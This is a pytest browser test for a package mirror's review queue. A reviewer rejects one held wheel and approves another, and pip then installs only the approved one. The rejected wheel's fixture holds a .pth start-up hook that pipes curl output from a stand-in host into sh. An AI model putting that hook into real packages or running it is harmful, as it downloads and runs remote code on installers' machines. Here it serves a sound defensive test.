"""The admin form in a real browser: Debian's Chromium driven by Playwright against the
mirror under gunicorn on loopback. A reviewer logs in, finds two held files, rejects one
and approves the other with reasons (a second tab, opened before the approval, is refused
when it tries to reject the same file); then real pip installs the approved one and
cannot install the rejected one.

Screenshots of the queue and the detail page are saved under the test's temp dir, and
into ``docs/screenshots/`` when ``SAVE_SCREENSHOTS=1`` (how the README's are made).
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
from datetime import UTC, datetime
from pathlib import Path

import pytest

from mirror.db import Database, State
from tests.support.builders import make_wheel
from tests.support.live import REPO, gunicorn_mirror, make_venv, pip_install, qmirror, write_config

pytestmark = pytest.mark.live

CHROMIUM = Path("/usr/bin/chromium")
# Without these Chromium reaches for Google's services at start, which this machine's
# closed network refuses many times over (and a sandbox needs privileges root lacks).
CHROMIUM_ARGS = [
    "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
    "--disable-background-networking", "--disable-component-update", "--disable-sync",
]  # fmt: skip
PASSWORD = "a long reviewer password"
LONG_AGO = datetime(2025, 1, 1, tzinfo=UTC)


def add_user(config: Path, name: str, role: str) -> None:
    result = subprocess.run(
        [sys.executable, "-m", "mirror", "--config", str(config), "user", "add", name,
         "--role", role],
        input=PASSWORD + "\n", capture_output=True, text=True, cwd=REPO, timeout=60,
    )  # fmt: skip
    assert result.returncode == 0, result.stderr


def test_review_in_a_real_browser_then_pip(tmp_path, fake_index):
    from playwright.sync_api import expect, sync_playwright

    assert CHROMIUM.exists(), ".ci/run installs Debian's chromium"
    index = fake_index("json")
    build = tmp_path / "build"
    build.mkdir()
    hook = b"import os; os.system('curl -s http://198.51.100.7/x | sh')\n"
    hooky = {"hooky/__init__.py": b"", "hooky.pth": hook}
    gizmo = {"gizmo/__init__.py": b"", "gizmo-paths.pth": b"import gizmo\n"}
    index.add(make_wheel(build, "hooky", "1.0", files=hooky), upload_time=LONG_AGO)
    index.add(make_wheel(build, "gizmo", "2.0", files=gizmo), upload_time=LONG_AGO)
    config = write_config(
        tmp_path / "qmirror.toml", tmp_path / "data", index.url,
        sync={"projects": ["hooky", "gizmo"]},
    )  # fmt: skip
    synced = qmirror(config, "sync")
    assert "2 held" in synced.stdout, synced.stdout
    add_user(config, "rev", "reviewer")
    shots = tmp_path / "screenshots"
    shots.mkdir()

    with gunicorn_mirror(config, tmp_path) as server, sync_playwright() as playwright:
        browser = playwright.chromium.launch(
            executable_path=str(CHROMIUM), headless=True, args=CHROMIUM_ARGS
        )
        try:
            context = browser.new_context(viewport={"width": 1280, "height": 900})
            page = context.new_page()
            page.goto(f"{server.url}/admin/")
            expect(page).to_have_url(f"{server.url}/admin/login?next=/admin/")
            page.fill("input[name=username]", "rev")
            page.fill("input[name=password]", PASSWORD)
            page.click("button[type=submit]")
            expect(page.locator("h1")).to_have_text("Review queue")
            expect(page.locator("table.queue")).to_contain_text("hooky-1.0-py3-none-any.whl")
            expect(page.locator("table.queue")).to_contain_text("gizmo-2.0-py3-none-any.whl")
            page.screenshot(path=str(shots / "queue.png"), full_page=True)

            page.click("text=hooky-1.0-py3-none-any.whl")
            expect(page.locator("h1")).to_have_text("hooky-1.0-py3-none-any.whl")
            expect(page.locator("body")).to_contain_text("pth-import")
            page.screenshot(path=str(shots / "file.png"), full_page=True)
            page.fill("#reject-reason", "start-up hook downloads and runs a script")
            page.click("button.reject")
            expect(page.locator(".flash.ok")).to_contain_text("Rejected hooky-1.0")
            expect(page.locator("button.overturn")).to_be_visible()  # its own form now

            page.goto(f"{server.url}/admin/")
            page.click("text=gizmo-2.0-py3-none-any.whl")
            stale = context.new_page()  # the same reviewer, in another tab
            stale.goto(page.url)
            page.fill("#approve-reason", "the .pth only imports the package itself")
            page.click("button.approve")
            expect(page.locator(".flash.ok")).to_contain_text("Approved gizmo-2.0")

            stale.fill("#reject-reason", "an older tab's <b>reason</b>")
            stale.click("button.reject")
            expect(stale.locator(".flash.error")).to_contain_text(
                "gizmo-2.0-py3-none-any.whl is approved now, not held"
            )
            expect(stale.locator(".decide-card")).to_contain_text("an older tab's <b>reason</b>")
            expect(stale.locator("#reject-reason")).to_have_count(0)
            stale.screenshot(path=str(shots / "stale.png"), full_page=True)
        finally:
            browser.close()

        db = Database(tmp_path / "data" / "qmirror.sqlite3")
        assert db.file_by_filename("hooky-1.0-py3-none-any.whl").state is State.REJECTED
        assert db.file_by_filename("gizmo-2.0-py3-none-any.whl").state is State.APPROVED
        reasons = {d["reason"] for d in db.decisions() if d["actor"] == "user:rev"}
        assert reasons == {
            "start-up hook downloads and runs a script",
            "the .pth only imports the package itself",
        }

        python = make_venv(tmp_path / "venv")
        approved = pip_install(python, server.index_url, ["gizmo"])
        assert approved.returncode == 0, approved.stdout + approved.stderr
        rejected = pip_install(python, server.index_url, ["hooky"])
        assert rejected.returncode != 0
        assert "No matching distribution found for hooky" in rejected.stdout + rejected.stderr

    assert (shots / "queue.png").stat().st_size > 10_000
    if os.environ.get("SAVE_SCREENSHOTS") == "1":
        for name in ("queue.png", "file.png"):
            shutil.copyfile(shots / name, REPO / "docs" / "screenshots" / name)
